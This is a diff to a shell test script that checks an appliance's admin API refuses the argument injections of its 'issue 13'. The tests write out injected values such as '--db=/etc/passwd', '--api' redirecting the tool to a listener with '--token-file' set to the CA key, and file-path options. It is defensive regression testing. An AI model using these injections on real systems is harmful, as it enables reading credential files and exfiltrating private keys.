@@ -4,7 +4,9 @@
 # tokens (hashed in the store, scoped read or write), the audit trail of
 # what came through it, and what it refuses: bad, revoked or missing
 # tokens, changes with a read token, commands that touch the appliance's
-# files, token guessing.
+# files, avecctl's global options and path options sent as arguments (the
+# argument injections of issue 13: another store, the engine's child as
+# an API client), token guessing.
 . "$(dirname "$0")/../lib/common.sh"
 . "$(dirname "$0")/../lib/radius.sh"
 . "$(dirname "$0")/../lib/cas.sh"
@@ -42,7 +44,7 @@ check "... with its message on stderr" grep -q 'no account nobody-here' "$ERR"
 api "unix:$P_SOCK" policy apply /etc/passwd >/dev/null; rc=$?
 check "policy apply FILE is refused through the API (3)" \
 	bash -c "[ $rc = 3 ] && grep -q 'not available through the admin API' '$ERR'"
-api "unix:$P_SOCK" device add F1abc --name x --type tls --out /tmp >/dev/null; rc=$?
+api "unix:$P_SOCK" device add F1abc --name x --type tls >/dev/null; rc=$?
 check "device add --type tls (files on the appliance) is refused (3)" \
 	bash -c "[ $rc = 3 ] && grep -q 'EAP-TLS devices are added through the portal' '$ERR'"
 api "unix:$P_SOCK" device add F1abc --name tls --type ttls >/dev/null; rc=$?
@@ -97,6 +99,128 @@ check "plain http is refused by the client" \
 check "no token, session or secret in avecd's log" \
 	bash -c "! grep -qF -e '${read_tok#avt_}' -e '${write_tok#avt_}' '$LOG'"
 check "the log says who ran what" grep -q 'admin API: token helpdesk ran "device revoke" from admin api 127.0.0.1: exit 0' "$LOG"
+
+# ---- a caller names a command and its arguments, nothing else (issue 13) ----
+# Each attack of issue 13 is sent as raw arg fields (the client's "--" ends
+# its own options) with a read token over HTTPS, or through the local
+# socket: avecd runs avecctl on its own store and CA only, never as a
+# client of an admin API, never on a file the caller names.
+avecctl account add G1vic --role student >/dev/null
+victim=$(avecctl device add G1vic --name "Victime" --type ttls --json | jq -r .id)
+aud_tok=$(avecctl token add auditor --scope read --json | jq -r .token)
+echo "$aud_tok" > "$T_SCRATCH/aud.token"
+chmod 600 "$T_SCRATCH/aud.token"
+readapi() { https --token-file "$T_SCRATCH/aud.token" -- "$@"; }
+sockapi() { api "unix:$P_SOCK" -- "$@"; }
+victim_status() { avecctl device list --json | jq -r ".[] | select(.id == $victim) | .status"; }
+g1_devices() { avecctl device list G1vic --json | jq length; }
+
+# (a) another store: -d / --db
+OTHER=$T_SCRATCH/other.db
+"$AVECCTL" -d "$OTHER" --ca-dir "$R_CA" init >/dev/null 2>&1
+"$AVECCTL" -d "$OTHER" --ca-dir "$R_CA" account add OTHERx9 --role student >/dev/null 2>&1
+# an access time long past: any read of the file moves it (relatime)
+touch -a -d '2000-01-01 00:00:00' "$OTHER"
+other_atime=$(stat -c %X "$OTHER")
+out=$(readapi -d "$OTHER" account list); rc=$?
+check "injection: '-d OTHER.db account list' (read token, HTTPS) is refused (3), saying why" \
+	bash -c "[ $rc = 3 ] && grep -q \"'-d' is not a command the admin API runs\" '$ERR'"
+check "... no account of the other store is shown" bash -c "! grep -q OTHERx9 <<<'$out'"
+check "... and the other store was not read (its access time is unchanged)" \
+	[ "$(stat -c %X "$OTHER")" = "$other_atime" ]
+sockapi -d "$OTHER" account list >/dev/null; rc=$?
+check "injection: '-d OTHER.db account list' through the local socket is refused (3)" \
+	bash -c "[ $rc = 3 ] && grep -q \"'-d' is not a command the admin API runs\" '$ERR'"
+out=$(readapi --db=/etc/passwd account list); rc=$?
+check "injection: '--db=/etc/passwd account list' is refused (3), saying why" \
+	bash -c "[ $rc = 3 ] && grep -q \"'--db=/etc/passwd' is not a command the admin API runs\" '$ERR'"
+check "... and /etc/passwd was not opened as a store" bash -c "! grep -qi 'database\|passwd:' '$ERR' && [ -z '$out' ]"
+out=$(readapi account list --db="$OTHER"); rc=$?
+check "injection: a global option after the command ('account list --db=FILE') is refused (3)" \
+	bash -c "[ $rc = 3 ] && grep -q 'is a global option' '$ERR' && ! grep -q OTHERx9 <<<'$out'"
+check "... the other store still not read" [ "$(stat -c %X "$OTHER")" = "$other_atime" ]
+
+# (b) the engine's child as a client of the local (write) socket
+readapi --api "unix:$P_SOCK" device revoke "$victim" >/dev/null; rc=$?
+check "injection: '--api unix:ADMIN.sock device revoke N' with a read token is refused (3)" \
+	bash -c "[ $rc = 3 ] && grep -q \"'--api' is not a command the admin API runs\" '$ERR'"
+check "... the device is still active" [ "$(victim_status)" = active ]
+check "... and nothing ran through the admin socket" \
+	bash -c "! grep -q 'ran \"device revoke\" from admin socket' '$LOG'"
+readapi report sessions --api "unix:$P_SOCK" >/dev/null; rc=$?
+check "injection: '--api' after the command is refused too (3)" \
+	bash -c "[ $rc = 3 ] && grep -q -- \"--api is a global option\" '$ERR'"
+
+# (c) the engine's child sends a file's first line to the caller's server
+L_PORT=$(free_port tcp)
+cat > "$T_SCRATCH/listener.py" <<'EOF'
+# an HTTPS server on 127.0.0.1 that writes down every connection and request
+import http.server, ssl, sys
+port, cert, key, got = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+ctx.load_cert_chain(cert, key)
+def note(s):
+    with open(got, "a") as f:
+        f.write(s + "\n")
+class H(http.server.BaseHTTPRequestHandler):
+    def do_POST(self):
+        note(self.requestline + "\n" + str(self.headers))
+        body = b"avecctl-result 1\nexit 0\nstderr 0\n"
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *a):
+        pass
+class S(http.server.HTTPServer):
+    def get_request(self):
+        sock, addr = self.socket.accept()
+        note("connection from %s" % addr[0])
+        return ctx.wrap_socket(sock, server_side=True), addr
+S(("127.0.0.1", port), H).serve_forever()
+EOF
+spawn listener python3 "$T_SCRATCH/listener.py" "$L_PORT" "$P_DIR/pki/server.pem" "$P_DIR/pki/server.key" "$T_SCRATCH/listener.got"
+wait_for 10 bash -c "ss -Hltn 'sport = :$L_PORT' | grep -q ."
+curl -s --cacert "$P_CA_FILE" -o /dev/null -d arg=probe "https://127.0.0.1:$L_PORT/probe"
+check "the test's listener on 127.0.0.1 hears a request (a probe)" grep -q 'POST /probe' "$T_SCRATCH/listener.got"
+: > "$T_SCRATCH/listener.got"
+readapi --api "https://127.0.0.1:$L_PORT" --api-ca "$P_CA_FILE" --token-file "$R_CA/ca.key" report sessions >/dev/null; rc=$?
+check "injection: '--api https://LISTENER --api-ca ... --token-file CA/ca.key report sessions' is refused (3)" \
+	bash -c "[ $rc = 3 ] && grep -q \"'--api' is not a command the admin API runs\" '$ERR'"
+readapi report sessions --api-ca "$P_CA_FILE" --token-file "$R_CA/ca.key" >/dev/null; rc=$?
+check "injection: '--token-file' after the command is refused (3)" \
+	bash -c "[ $rc = 3 ] && grep -q 'is a global option' '$ERR'"
+stop_pid "$PID_listener"
+check "... and the listener received nothing: no connection, no token" [ ! -s "$T_SCRATCH/listener.got" ]
+
+# (d) options and arguments that name a file on the appliance
+sockapi device add G1vic --name x --type ttls --out /tmp >/dev/null; rc=$?
+check "path option: 'device add ... --out DIR' is refused through the API (3)" \
+	bash -c "[ $rc = 3 ] && grep -q -- '--out names a file on the appliance: not available through the admin API' '$ERR'"
+sockapi device add G1vic --name x --type ttls -o/tmp >/dev/null; rc=$?
+check "path option: ... and as '-oDIR' (3)" \
+	bash -c "[ $rc = 3 ] && grep -q -- '--out names a file' '$ERR'"
+check "... no device was added" [ "$(g1_devices)" = 1 ]
+check "... the refused attempt is in the audit trail" \
+	[ "$(avecctl audit list --json | jq -r '[.[] | select(.action == "device add" and .outcome == "refused" and .origin == "admin socket")] | length')" -ge 2 ]
+sockapi status --root / >/dev/null; rc=$?
+check "path option: 'status --root DIR' is refused (3)" \
+	bash -c "[ $rc = 3 ] && grep -q -- '--root names a file on the appliance' '$ERR'"
+sockapi status --ro=/ >/dev/null; rc=$?
+check "path option: ... abbreviated '--ro=DIR' too (3)" \
+	bash -c "[ $rc = 3 ] && grep -q -- '--root names a file on the appliance' '$ERR'"
+sockapi status >/dev/null; rc=$?
+check "... but 'status' without a path runs (0)" [ "$rc" = 0 ]
+sockapi policy check /etc/passwd >/dev/null; rc=$?
+check "path argument: 'policy check FILE' is refused (3)" \
+	bash -c "[ $rc = 3 ] && grep -q 'policy check is not available through the admin API' '$ERR' && ! grep -q passwd '$ERR'"
+sockapi nas add ap-x --nas-address 127.0.0.1 --secret-file /etc/passwd >/dev/null; rc=$?
+check "path option: 'nas add --secret-file FILE' is refused (3)" [ "$rc" = 3 ]
+sockapi ent import /etc/passwd >/dev/null; rc=$?
+check "path argument: 'ent import FILE' is refused (3)" [ "$rc" = 3 ]
+readapi status --root / >/dev/null; rc=$?
+check "path option: 'status --root DIR' with a read token over HTTPS is refused (3)" \
+	bash -c "[ $rc = 3 ] && grep -q -- '--root names a file on the appliance' '$ERR'"
 
 # guessing tokens: cut off
 codes=""
